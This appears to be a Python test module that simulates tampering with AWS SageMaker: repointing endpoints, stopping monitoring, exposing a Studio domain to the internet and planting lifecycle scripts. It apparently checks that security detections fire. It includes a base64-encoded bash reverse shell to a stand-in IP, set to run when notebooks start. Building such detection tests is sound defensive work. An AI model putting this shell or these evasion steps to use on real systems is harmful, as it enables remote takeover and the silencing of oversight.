"""Bad changes of what answers, what watches it, and where people work."""

from __future__ import annotations

import base64
import itertools
from collections.abc import Callable
from functools import partial
from typing import Any

from local import Account, Workload, baselines

from ..stack import Stack
from ..waiting import until
from .change import Change, State, change
from .jobs import made
from .notebooks import approve, arn, inside_of, tags

NUMBERS = itertools.count(1)
SHELL = base64.b64encode(b"bash -i >& /dev/tcp/192.0.2.9/443 0>&1").decode()
TOOLS = base64.b64encode(b"pip install --quiet pandas").decode()


def repoint_endpoint(stack: Stack, workload: Workload) -> Change:
    """Has an approved endpoint serve another model."""
    number = next(NUMBERS)
    name, sagemaker = f"Churn-{number}", stack.client("sagemaker")
    for config in ("good", "debug"):
        variant = {
            "VariantName": "blue",
            "ModelName": config,
            "InitialInstanceCount": 2,
            "InstanceType": "ml.m5.large",
        }
        sagemaker.create_endpoint_config(EndpointConfigName=f"{config}-{number}", ProductionVariants=[variant])
    sagemaker.create_endpoint(EndpointName=name, EndpointConfigName=f"good-{number}", Tags=tags(workload))
    live = settled(partial(baselines.endpoint, stack.account, name), "InService")
    approve(stack, workload, arn(stack, f"endpoint/{name.lower()}"), live())

    def act(by: Account) -> State:
        return dict(by.client("sagemaker").update_endpoint(EndpointName=name, EndpointConfigName=f"debug-{number}"))

    return change(
        stack,
        act,
        control="sagemaker-endpoint-repointed",
        resource=arn(stack, f"endpoint/{name.lower()}"),
        live=live,
        calls=("UpdateEndpoint",),
    )


def stop_monitoring(stack: Stack, workload: Workload) -> Change:
    """Stops a schedule by which a model is watched."""
    return of_schedule(
        stack,
        workload,
        lambda sagemaker, name: sagemaker.stop_monitoring_schedule(MonitoringScheduleName=name),
        "StartMonitoringSchedule",
    )


def change_monitoring(stack: Stack, workload: Workload) -> Change:
    """Has a schedule watch something else, at other times."""
    light = schedule("light", "cron(0 12 ? * * *)")

    def act(sagemaker: Any, name: str) -> Any:
        return sagemaker.update_monitoring_schedule(MonitoringScheduleName=name, MonitoringScheduleConfig=light)

    return of_schedule(stack, workload, act, "UpdateMonitoringSchedule")


def of_schedule(stack: Stack, workload: Workload, act: Callable[[Any, str], Any], call: str) -> Change:
    """A change of an approved schedule."""
    name, sagemaker = f"Watch-{next(NUMBERS)}", stack.client("sagemaker")
    hourly = schedule("daily", "cron(0 * ? * * *)")
    sagemaker.create_monitoring_schedule(
        MonitoringScheduleName=name, MonitoringScheduleConfig=hourly, Tags=tags(workload)
    )
    live = settled(partial(baselines.monitoring, stack.account, name), "Scheduled", "Stopped")
    approve(stack, workload, arn(stack, f"monitoring-schedule/{name.lower()}"), live())
    return change(
        stack,
        lambda by: act(by.client("sagemaker"), name),
        control="sagemaker-monitoring-stopped",
        resource=arn(stack, f"monitoring-schedule/{name.lower()}"),
        live=live,
        calls=(call,),
    )


def schedule(definition: str, when: str) -> dict[str, Any]:
    """What is watched, and when."""
    return {
        "ScheduleConfig": {"ScheduleExpression": when},
        "MonitoringJobDefinitionName": definition,
        "MonitoringType": "DataQuality",
    }


def open_domain(stack: Stack, workload: Workload) -> Change:
    """Has the apps of a Studio domain reach the internet by a network of SageMaker's."""
    inside, sagemaker = inside_of(stack, workload), stack.client("sagemaker")
    identifier = sagemaker.create_domain(
        DomainName=f"research-{next(NUMBERS)}",
        AuthMode="IAM",
        DefaultUserSettings={"ExecutionRole": inside["RoleArn"]},
        SubnetIds=[inside["SubnetId"]],
        VpcId="vpc-03f8d1a6c9e4b7250",
        AppNetworkAccessType="VpcOnly",
        Tags=tags(workload),
    )["DomainId"]
    live = settled(partial(baselines.domain, stack.account, identifier), "InService")
    live()

    def act(by: Account) -> State:
        access = "PublicInternetOnly"
        return dict(by.client("sagemaker").update_domain(DomainId=identifier, AppNetworkAccessType=access))

    return change(
        stack,
        act,
        control="sagemaker-domain-exposed",
        resource=arn(stack, f"domain/{identifier}"),
        live=live,
        calls=("UpdateDomain",),
    )


def swap_script(stack: Stack, workload: Workload) -> Change:
    """Has notebooks open a shell to elsewhere whenever they start."""
    name, sagemaker = f"Tools-{next(NUMBERS)}", stack.client("sagemaker")
    named = {"NotebookInstanceLifecycleConfigName": name}
    sagemaker.create_notebook_instance_lifecycle_config(**named, OnStart=[{"Content": TOOLS}], Tags=tags(workload))
    live = partial(baselines.scripts, stack.account, name)
    resource = arn(stack, f"notebook-instance-lifecycle-config/{name.lower()}")
    approve(stack, workload, resource, live())

    def act(by: Account) -> State:
        scripts = [{"Content": SHELL}]
        sagemaker = by.client("sagemaker")
        return dict(sagemaker.update_notebook_instance_lifecycle_config(**named, OnCreate=scripts, OnStart=scripts))

    return change(
        stack,
        act,
        control="sagemaker-lifecycle-script-suspicious",
        resource=resource,
        live=live,
        calls=("UpdateNotebookInstanceLifecycleConfig",),
    )


def store_studio_script(stack: Stack, workload: Workload) -> Change:
    """Stores a script by which apps of Studio open a shell to elsewhere. Nobody can change it."""
    name = f"Apps-{next(NUMBERS)}"
    request = {
        "StudioLifecycleConfigName": name,
        "StudioLifecycleConfigContent": SHELL,
        "StudioLifecycleConfigAppType": "JupyterLab",
        "Tags": tags(workload),
    }
    read = partial(baselines.studio_script, stack.account, name)
    return made(
        stack,
        lambda by: by.client("sagemaker").create_studio_lifecycle_config(**request),
        "sagemaker-lifecycle-script-suspicious",
        f"studio-lifecycle-config/{name.lower()}",
        read,
    )


def settled(read: Callable[[], State], *statuses: str) -> Callable[[], State]:
    """Reads a state once it has come to one of these."""

    def there() -> State | None:
        found = read()
        return found if found["state"]["status"] in statuses else None

    return lambda: until(there, f"it is {' or '.join(statuses)}") or {}
